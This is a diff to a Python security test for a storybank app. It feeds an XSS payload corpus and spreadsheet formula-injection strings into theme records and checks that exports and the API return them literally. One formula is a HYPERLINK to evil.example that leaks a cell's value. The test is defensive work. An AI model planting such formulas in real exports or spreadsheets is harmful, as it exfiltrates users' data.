@@ -29,7 +29,8 @@ from storybank.tag.services import save_theme
 from tests.conftest import login
 from tests.security.hostile.xss_corpus import sampled_payloads
 
-SAMPLE = sampled_payloads()
+# Without NUL: only the story body removes it, and PostgreSQL refuses it (test_known_gaps.py).
+SAMPLE = [payload.replace("\x00", "") for payload in sampled_payloads()]
 FORMULAS = [
     "=1+1",
     '=HYPERLINK("http://evil.example/?leak="&A1,"Open me")',
@@ -82,7 +83,7 @@ def world(factories):
         save_theme(
             admin,
             key=f"hostile_{n}",
-            name=payload.strip() or "A theme",
+            name=payload.strip()[:80] or "A theme",
             definition=payload.strip() or "A definition",
             indicators=[payload],
             positive_examples=[payload],
@@ -220,7 +221,7 @@ def test_json_export_and_api_give_the_released_text_literally(world):
     assert world["released"] in _strings(one.get_json())
     codebook = api.get(urls(world, "api.codebook"), headers=headers).get_json()
     names = set(_strings(codebook))
-    assert {p.strip() for p in FORMULAS[:4] + SAMPLE[:4]} <= names
+    assert {p.strip()[:80] for p in FORMULAS[:4] + SAMPLE[:4]} <= names
 
 
 def _strings(value) -> list[str]:
